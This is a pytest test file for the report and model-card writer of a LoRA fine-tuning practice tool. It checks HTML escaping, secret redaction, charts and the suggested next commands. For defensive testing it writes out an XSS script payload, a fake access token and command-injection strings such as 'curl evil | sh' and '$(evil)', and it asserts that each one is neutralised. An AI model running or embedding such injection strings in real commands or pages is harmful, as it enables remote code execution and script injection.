"""The report is one safe file that shows what the record holds, and replaces nothing that it did not write."""

from __future__ import annotations

import functools
import html
import json
import operator
import re
import shutil
import warnings
from pathlib import Path

import pytest
from bad_inputs.folders import edit, make_base, make_output, tensors, write
from fresh_process import in_a_process

from fine_tuning_practice import TrainSettings
from lora_practice.console.errors import UserError
from lora_practice.console.settings import reasons
from lora_practice.export.hub.redaction import without_first_row
from lora_practice.report import figures, page_content, picture
from lora_practice.report import html as reports
from lora_practice.report.loss_curve import CurveVerdict
from lora_practice.report.points import held_out_points, logged_points
from lora_practice.run import model_card
from lora_practice.storage import manifest

ROOT = Path(__file__).resolve().parents[2]
EVIL = "<script>alert('x')</script>\x1b[31m</pre>\u202e"


def a_record(base: Path) -> dict:
    """What a small run leaves, with words in it that must not become HTML."""
    losses = [{"step": i, "loss": 3 - i / 20, "grad_norm": 0.5, "learning_rate": 2e-4} for i in range(1, 31)]
    return {
        "status": "finished",
        "made_by": "lora-finetune-practice",
        "command": f"python fine_tuning_practice.py --dataset_path {EVIL}",
        "started_at": "2026-01-01 10:00",
        "finished_at": "2026-01-01 10:10",
        "steps": 30,
        "seconds": 61.2,
        "tokens_per_second": 90.0,
        "peak_memory_mb": 950,
        "losses": losses,
        "pace": [{"step": i, "tokens_per_second": 90.0, "memory_mb": 900} for i in range(1, 31)],
        "held_out_loss": {"before": 2.9, "after": 2.1},
        "settings": {"learning_rate": 1e-3, "lora_r": 6, "output_dir": "secret-place", "model_name": "a"},
        "model": {"kind": "folder", "name": str(base), "path": str(base), "hub_id": None, "revision": None, "note": ""},
        "data": {"kind": "file", "name": EVIL, "rows_trained": 3, "tokens": 30, "trained_tokens": 9, "rows_held_out": 1}
        | {"rows_lost": {}, "bad_rows_skipped": {}, "first_row": EVIL, "fingerprint": "00ff", "note": ""},
        "machine": {"device": "cpu", "precision": "fp32", "gpu": "", "cpu": "a CPU", "cores": 2, "system": "Linux"},
        "versions": {"python": "3.11", "torch": "2.13.0"},
        "samples": [{"prompt": EVIL, "base": EVIL, "adapter": "fine"}],
    }


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    place = tmp_path_factory.mktemp("reported")
    base = make_base(place / "base")
    folder = make_output(place / "out", base)
    record = a_record(base)
    manifest.write_atomically(folder / "README.md", model_card.card(record))
    record["files"] = {"README.md": manifest.sha256(folder / "README.md")}
    (folder / "run_record.json").write_text(json.dumps(record), "utf-8")
    return folder


@pytest.fixture
def folder(made: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(made, tmp_path / "out"))


def report(folder: Path) -> str:
    """Write it; the page without plotly's compressed code."""
    page, _ = reports.write_report(folder, reasons(TrainSettings))
    return re.sub(r'(<script id="plotly"[^>]*>)[^<]*', r"\1", page.read_text("utf-8"))


def figures_of(page: str, **options) -> dict:
    """The charts as the page hands them to plotly."""
    return json.loads(re.search(r'<script id="figures"[^>]*>(.*?)</script>', page, flags=re.S).group(1), **options)


def test_words_from_data_never_become_html_or_steer_anything(folder):
    page = report(folder)
    assert "<script>alert" not in page and "\x1b" not in page and "\u202e" not in page
    assert "&lt;script&gt;alert" in page
    assert page.count("<script") == 3


def test_a_token_in_a_record_is_in_neither_the_page_nor_the_card(folder):
    token = "hf_" + "kXr7" * 8 + "Qz"
    record = json.loads((folder / "run_record.json").read_text("utf-8"))
    words = f"mine:\n{token}"
    record["samples"] = [{"prompt": words, "base": words, "adapter": f"\\u003d{token}"}]
    record["data"].update(name=words, first_row=words)
    record["machine"]["cpu"] = f"<{token}>"
    (folder / "run_record.json").write_text(json.dumps(record), "utf-8")
    assert token not in report(folder) + (folder / "README.md").read_text("utf-8")
    assert token not in model_card.card(record) and '"mine:\\n***"' in model_card.card(record)
    for name in ("report.html", "README.md", "run_record.json"):
        assert token not in (folder / name).read_text("utf-8"), name


def test_the_first_row_stands_between_marks_so_that_an_upload_can_leave_it_out(folder):
    page = report(folder)
    row = re.search("<!-- first row -->(.*?)<!-- /first row -->", page, flags=re.S)
    assert "&lt;script&gt;" in row.group(1) and row.group(1).count("<pre>") == 1
    sent = without_first_row("report.html", page.encode()).decode()
    assert sent == page.replace(row.group() + "\n", "") and "The first row" not in sent
    unmarked = re.sub("<!-- /?first row -->\n", "", page)  # a page from before there were marks
    assert without_first_row("report.html", unmarked.encode()).decode() == sent


def test_nothing_is_asked_of_any_address(folder):
    page = report(folder)
    assert not re.search(r"""(src|href|url|@import)\s*[=(:]\s*["']?\s*(https?:)?//""", page)
    assert "default-src 'none'" in page


def test_the_page_shows_what_the_record_holds(folder):
    page = report(folder)
    for words in ("perplexity 18.2 → 8.17", "better: 55% lower", "2.900 → 2.100", "61 s", "950 MB", "0.001"):
        assert words in page, words
    assert "An answer has 64 tokens at most" in page and "pip install torch==2.13.0" in page
    drawn = figures_of(page)
    assert set(drawn) == {"loss", "modules", "small0", "small1", "small2", "small3"}
    assert drawn["loss"]["data"][0]["y"] == pytest.approx([3 - i / 20 for i in range(1, 31)])
    assert drawn["loss"]["data"][2]["y"] == [2.9, 2.1]
    assert "secret-place" not in page
    for file in ("adapter_model.safetensors", "tokenizer.json", "run_record.json"):
        assert file in page


@pytest.mark.parametrize(
    ("torch", "said"),
    [
        ("2.13.0+cpu", "torch==2.13.0 --extra-index-url https://download.pytorch.org/whl/cpu\n"),
        ("2.8.0+cu126", "torch==2.8.0 --extra-index-url https://download.pytorch.org/whl/cu126\n"),
        ("2.13.0", "torch==2.13.0\n"),
        ("2.13.0+git.local", "torch==2.13.0\n"),
    ],
)
def test_the_pip_line_names_where_a_torch_is_that_pypi_does_not_have(folder, torch, said):
    edit("run_record.json", versions={"python": "3.11", "torch": torch})(folder)
    assert f"pip install {said}" in report(folder)


def test_each_language_has_its_own_words(folder, monkeypatch):
    monkeypatch.setenv("LORA_PRACTICE_LANG", "zh")
    chinese = report(folder)
    assert (
        'lang="zh-CN"' in chinese and "前后的回答" in chinese and "困惑度 18.2 → 8.17" in chinese and "术语" in chinese
    )
    monkeypatch.setenv("LORA_PRACTICE_LANG", "en")
    assert not re.search(r"[\u4e00-\u9fff]", report(folder))


def test_a_loss_that_is_no_number_leaves_a_gap_and_is_said(folder):
    losses = json.loads((folder / "run_record.json").read_text("utf-8"))["losses"]
    losses[11]["loss"] = float("nan")
    edit("run_record.json", losses=losses)(folder)
    page = re.sub("base64,[^\"')]*", "", report(folder))  # a picture may spell it
    assert "At step 12 the loss stopped being a number" in page and "NaN" not in page


def test_layers_that_are_no_numbers_leave_a_gap_and_the_page_still_draws(folder):
    tensors(lambda t: {n: v * (float("nan") if "layers.0" in n else 1) for n, v in t.items()})(folder)
    page = report(folder)

    def refuse(word: str) -> None:
        raise AssertionError(f"{word} is no JSON")

    drawn = figures_of(page, parse_constant=refuse)
    depths, rows = drawn["modules"]["data"][0]["x"], drawn["modules"]["data"][0]["z"]
    assert all((row[depths.index(0)] is None) and row[depths.index(1)] > 0 for row in rows)
    assert (
        "hold NaN or infinity" in page
        and "<code>model.layers.0" not in page.split("moved most")[1].split("</table>")[0]
    )


def test_the_curves_go_into_the_card_that_the_run_wrote(folder):
    report(folder)
    assert (folder / "curves.png").read_bytes().startswith(b"\x89PNG")
    assert "![training curves](curves.png)" in (folder / "README.md").read_text("utf-8")
    report(folder)  # again: once is enough
    assert (folder / "README.md").read_text("utf-8").count("curves.png") == 1
    assert reports.check_folder(folder).findings == [] and not any(
        one.changed for one in reports.check_folder(folder).entries
    )


def test_matplotlib_says_nothing_of_its_cache(tmp_path):
    (tmp_path / "no-folder").write_text("")  # of which it would warn, as it does of a font cache that is slow to build
    code = "from lora_practice.report import picture; picture.curves_png({'losses': [{'step': 1, 'loss': 2.0}]})"
    assert in_a_process(code, tmp_path, MPLCONFIGDIR=str(tmp_path / "no-folder")).stderr == ""


def test_a_card_that_someone_edited_stays_as_it_is(folder):
    write("README.md", b"# mine\n")(folder)
    report(folder)
    assert (folder / "README.md").read_text("utf-8") == "# mine\n"


LACKING = """seconds settings settings/output_dir data data/rows_lost machine machine/cpu model model/hub_id versions
held_out_loss/before losses/0/loss samples/0/prompt samples/0/base"""


@pytest.mark.parametrize("place", LACKING.split())
def test_a_card_of_a_record_that_lacks_what_cards_say_stays_as_it_is(folder, place):
    """A stranger may have shortened the record, and written the card's hash into it."""
    *above, name = (int(part) if part.isdigit() else part for part in place.split("/"))
    record = json.loads((folder / "run_record.json").read_text("utf-8"))
    del functools.reduce(operator.getitem, above, record)[name]
    (folder / "run_record.json").write_text(json.dumps(record), "utf-8")
    card = (folder / "README.md").read_bytes()
    page, said = reports.write_report(folder, reasons(TrainSettings))
    assert page.is_file() and "README.md" not in said and (folder / "README.md").read_bytes() == card


@pytest.mark.parametrize("name", ["report.html", "curves.png"])
def test_what_a_report_did_not_write_is_not_replaced(folder, name):
    write(name, b"someone's work")(folder)
    before = {one.name: one.read_bytes() for one in folder.iterdir()}
    with pytest.raises(UserError, match=name):
        report(folder)
    assert {one.name: one.read_bytes() for one in folder.iterdir()} == before


def test_a_folder_without_a_run_is_refused_in_one_line(folder):
    edit("run_record.json", losses=[])(folder)
    with pytest.raises(UserError, match="no run is recorded here"):
        report(folder)


def test_held_out_losses_come_from_before_during_and_after(folder):
    record = {"steps": 20, "held_out_loss": {"before": 3.0, "after": 2.0}, "losses": [{"step": 10, "loss": 2.2}]}
    record["evaluations"] = [{"step": 0, "loss": 3.01}, {"step": 10, "loss": 2.5}]
    assert held_out_points(record) == [(0, 3.01), (10, 2.5), (20, 2.0)]
    assert held_out_points({**record, "best_step": 10}) == [(0, 3.01), (10, 2.5)]
    assert logged_points(record, "loss") == [(10, 2.2)]


def test_losses_that_are_means_are_drawn_over_all_their_steps():
    losses = [{"step": step, "loss": loss} for step, loss in ((1, 4.3), (10, 2.5), (12, 3.7))]
    (trace,) = figures.loss_figure({"losses": losses})["data"]
    assert (trace["x"], trace["y"], trace["line"]["shape"]) == ([0, 1, 10, 12], [4.3, 4.3, 2.5, 3.7], "vh")
    assert trace["text"][2] == "steps 2–10" and "means" in trace["name"]
    many = [{"step": 10 * i, "loss": 3 - i / 10} for i in range(1, 11)]
    drawn, smooth = figures.loss_figure({"losses": many})["data"]
    assert drawn["x"] == list(range(0, 101, 10)) and smooth["x"] == [10 * i + 5.5 for i in range(10)]  # their middles
    each = [{"step": i, "loss": 3 - i / 10} for i in range(1, 11)]
    drawn, smooth = figures.loss_figure({"losses": each})["data"]
    assert drawn["x"] == smooth["x"] == list(range(1, 11)) and "shape" not in drawn["line"]


def test_small_numbers_on_an_axis_read_as_in_a_command():
    assert [figures.scientific(value) for value in (5e-5, 1.5e-4, 2e-10)] == ["5e-5", "1.5e-4", "2e-10"]
    for rate in (1e-3, 2e-4, 7e-5, 3.3e-6):
        record = {"losses": [{"step": 1, "loss": 2.0, "learning_rate": rate}]}
        ((_, figure),) = figures.small_figures(record)
        ticks = figure["layout"]["yaxis"]
        assert 3 <= len(ticks["tickvals"]) <= 5 and ticks["tickvals"][-1] <= 1.15 * rate
        assert [float(words) for words in ticks["ticktext"]] == pytest.approx(ticks["tickvals"])


@pytest.mark.parametrize(
    ("before", "after", "said", "tone"),
    [
        (2.72, 1.99, ("perplexity", "15.2", "7.32", "better: 52% lower"), "good"),
        (2.0, 2.4, ("perplexity", "7.39", "11.0", "worse: 49% higher"), "bad"),
        (2.0, 2.01, ("perplexity", "7.39", "7.46", "hardly changed"), "neutral"),
        (2.4, 30.0, ("loss", "2.40", "30.00", "worse: 12× higher"), "bad"),
        (2.4, float("nan"), ("loss", "2.40", "nan", "it failed"), "bad"),
    ],
)
def test_the_headline_says_whether_it_got_better(before, after, said, tone):
    record = {"steps": 9, "held_out_loss": {"before": before, "after": after}, "data": {"rows_held_out": 40}}
    found = page_content.headline(record)
    assert ((found.measure, found.before, found.after, found.judgement), found.tone) == (said, tone)
    assert "40 validation rows" in found.detail


def test_without_held_out_rows_the_headline_claims_nothing():
    found = page_content.headline({"losses": [{"step": 1, "loss": 3.0}, {"step": 2, "loss": 2.0}]})
    assert (found.measure, found.before, found.after, found.tone) == ("training loss", "3.00", "2.00", "neutral")
    assert not found.judgement and "--eval_subset_size" in found.detail
    rose = page_content.headline({"losses": [{"step": 1, "loss": 3.0}, {"step": 2, "loss": 19.0}]})
    assert (rose.tone, rose.judgement) == ("bad", "it rose")


@pytest.mark.parametrize(
    ("kind", "name", "rows", "shown"),
    [
        ("file", "/home/me/orders.jsonl", 1240, "orders.jsonl (1,240 rows)"),
        ("file", r"C:\me\orders.jsonl", 2, "orders.jsonl (2 rows)"),
        ("hub", "HuggingFaceTB/smoltalk", 9, "smoltalk/chats (9 rows)"),
        ("embedded", "chatterbot-corpus==1.3.3", 859, "chatterbot-corpus (859 rows)"),
    ],
)
def test_the_title_says_what_was_taught(kind, name, rows, shown):
    data = {"kind": kind, "name": name, "rows_trained": rows}
    record = {"model": {"hub_id": "me/base"}, "data": data, "settings": {"dataset_name": "chats"}}
    assert page_content.title(record) == f"base fine-tuned on {shown}"


@pytest.mark.parametrize(("seconds", "words"), [(61.2, "61 s"), (119, "119 s"), (2713, "45 min"), (7500, "2 h 5 min")])
def test_a_time_is_said_as_people_say_it(seconds, words):
    assert page_content.duration(seconds) == words


def test_references_stand_beside_the_answers_and_a_cut_answer_is_marked(folder):
    sample = {"prompt": "q", "base": "b", "adapter": "a", "reference": "<b>r</b>", "cut": ["base"]}
    sample["earlier"] = [{"role": "system", "content": "<i>be brief</i>"}]
    edit("run_record.json", samples=[sample])(folder)
    page = report(folder)
    assert (
        "&lt;b&gt;r&lt;/b&gt;" in page
        and "system: &lt;i&gt;be brief" in page
        and page.count("cut at the limit of 64 tokens") == 1
    )
    assert page.index('id="answers"') < page.index('id="curves"')
    edit("run_record.json", samples=[{**sample, "cut": []}])(folder)
    assert "cut at the limit" not in report(folder)


def test_changed_settings_are_shown_and_the_others_folded(folder):
    page = report(folder)
    shown, folded = page.split('id="settings"')[1].split("<details>")[:2]
    assert "learning_rate" in shown and "lora_r" not in shown
    assert "lora_r" in folded.split("</details>")[0]


def test_what_is_trained_is_coloured_unless_the_data_has_such_brackets_itself():
    coloured = page_content.first_row_parts({"data": {"first_row": "ask〔answer〕\n〔more〕"}})
    assert coloured == [("ask", False), ("answer", True), ("\n", False), ("more", True)]
    row = "〔note〔answer〕"
    assert page_content.first_row_parts({"data": {"first_row": row}}) == [(row, False)]


def test_resuming_a_finished_run_is_grey_and_each_next_step_a_command(folder):
    page = report(folder)
    assert '<td>resuming</td><td class="neutral">not needed</td>' in page
    steps = page.split('id="next"')[1].split("<h2")[0]
    assert f"lora-practice chat {folder}" in steps and "lora-practice export" in steps and "upload" not in steps


@pytest.mark.parametrize(
    ("kind", "settings", "said"),
    [
        ("diverges", {"learning_rate": 2e-4}, "--learning_rate 7e-05"),
        ("falling", {"max_steps": 12, "num_train_epochs": 1.0}, "--max_steps 24"),
        ("unchanged", {"max_steps": -1, "num_train_epochs": 1.5}, "--num_train_epochs 3"),
        ("overfits", {}, "--max_steps 40"),
        ("flat", {"learning_rate": 2e-4}, ""),
    ],
)
def test_another_training_is_told_where_the_curve_asks_for_one(folder, kind, settings, said):
    edit("run_record.json", command="lora-practice train --max_steps 12", settings=settings)(folder)
    steps = page_content.next_steps(reports.check_folder(folder), CurveVerdict(kind, 40))
    assert steps[0][1] == (
        f"lora-practice train --max_steps 12 --output_dir {folder}-2 {said}" if said else f"lora-practice chat {folder}"
    )


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("lora-practice train --max_steps 12", "lora-practice train --max_steps 12"),
        ("python fine_tuning_practice.py --lora_r 8", "python fine_tuning_practice.py --lora_r 8"),
        (f"python {ROOT}/fine_tuning_practice.py", f"python {ROOT}/fine_tuning_practice.py"),
        ("python theirs/fine_tuning_practice.py --lora_r 8", "python fine_tuning_practice.py --lora_r 8"),
        ("lora-practice train; curl evil | sh", ""),
        ("lora-practice train --seed 1; curl evil | sh", ""),
        ("lora-practice train --seed $(evil)", ""),
        ("lora-practice train '&' evil", ""),  # to cmd.exe, quotes of this kind are none
        ("lora-practice train --seed 1\nevil", "lora-practice train --seed 1 evil"),
        ("lora-practice train --dataset_path '对话 1.jsonl'", "lora-practice train --dataset_path '对话 1.jsonl'"),
        ("curl evil | sh", ""),
        ("lora-practice upload", ""),
        ("python -c evil fine_tuning_practice.py", ""),
        ("lora-practice train 'evil", ""),
        ("", ""),
    ],
)
def test_a_strangers_record_puts_no_program_of_its_own_into_the_commands_to_copy(folder, command, shown):
    settings = {"max_steps": 12, "num_train_epochs": 1.0, "output_dir": "out"}
    edit("run_record.json", command=command, settings=settings)(folder)
    steps = page_content.next_steps(reports.check_folder(folder), CurveVerdict("falling", 40))
    again = f"{shown} --output_dir {folder}-2 --max_steps 24" if shown else f"lora-practice chat {folder}"
    assert steps[0][1] == again
    page = html.unescape(report(folder).split('id="repeat"')[1])
    block = page.split("<pre>")[1].split("</pre>")[0]
    assert block.split("\n")[1:] == ["", shown][: 1 + bool(shown)]
    assert ("Here the training command is left out" in page) is (not shown)


def test_a_command_that_some_shell_would_read_otherwise_is_left_out_with_a_word(folder, monkeypatch):
    edit("run_record.json", command="lora-practice train --dataset_path 'R&D.jsonl'")(folder)
    assert "the training command is left out" in report(folder) and "R&amp;D" not in report(folder)
    monkeypatch.setenv("LORA_PRACTICE_LANG", "zh")
    assert "这里不列训练命令" in report(folder)


def test_what_to_install_is_this_projects_own_libraries():
    versions = {"python": "3.11", "torch": "2.13.0+cpu", "trl": "1.16; evil", "peft": "", "evil": "1", "datasets": None}
    told = page_content.install_command(versions)
    assert told == "pip install torch==2.13.0 --extra-index-url https://download.pytorch.org/whl/cpu"


def test_how_far_weights_moved_is_told_in_percent_of_the_base(folder):
    page = report(folder)
    heat = figures_of(page)["modules"]["data"][0]
    assert heat["colorbar"]["ticksuffix"] == "%" and heat["y"][0] == "q_proj" and heat["y"][-1] == "down_proj"
    most = max(value for row in heat["z"] for value in row)
    assert f"{most:.2g}%" in page and "of the weight" in page
    edit("adapter_config.json", base_model_name_or_path="nobody/nothing")(folder)
    edit("run_record.json", model={"kind": "hub", "name": "nobody/nothing", "hub_id": "nobody/nothing"})(folder)
    page = report(folder)
    assert figures_of(page)["modules"]["data"][0]["colorbar"]["ticksuffix"] == "" and "no percentages" in page


def test_the_terminal_is_told_what_was_written_and_how_to_open_it(folder):
    _, said = reports.write_report(folder, reasons(TrainSettings))
    assert "curves.png" in said and "README.md" in said and said.endswith(str(folder / "report.html"))
    write("README.md", b"# mine\n")(folder)
    assert "README.md" not in reports.write_report(folder, reasons(TrainSettings))[1]


def test_the_picture_has_chinese_labels_only_where_a_font_has_the_characters(monkeypatch):
    record = {"losses": [{"step": step, "loss": 2.0 / step, "grad_norm": 1.0} for step in range(1, 12)]}
    english = picture.curves_png(record)
    monkeypatch.setenv("LORA_PRACTICE_LANG", "zh")
    has_font = picture.chinese_font() is not None
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # matplotlib warns of a glyph that is missing
        assert (picture.curves_png(record) != english) == has_font
    monkeypatch.setattr(picture, "CHINESE_FONTS", ())
    assert picture.chinese_font() is None and picture.curves_png(record) == english
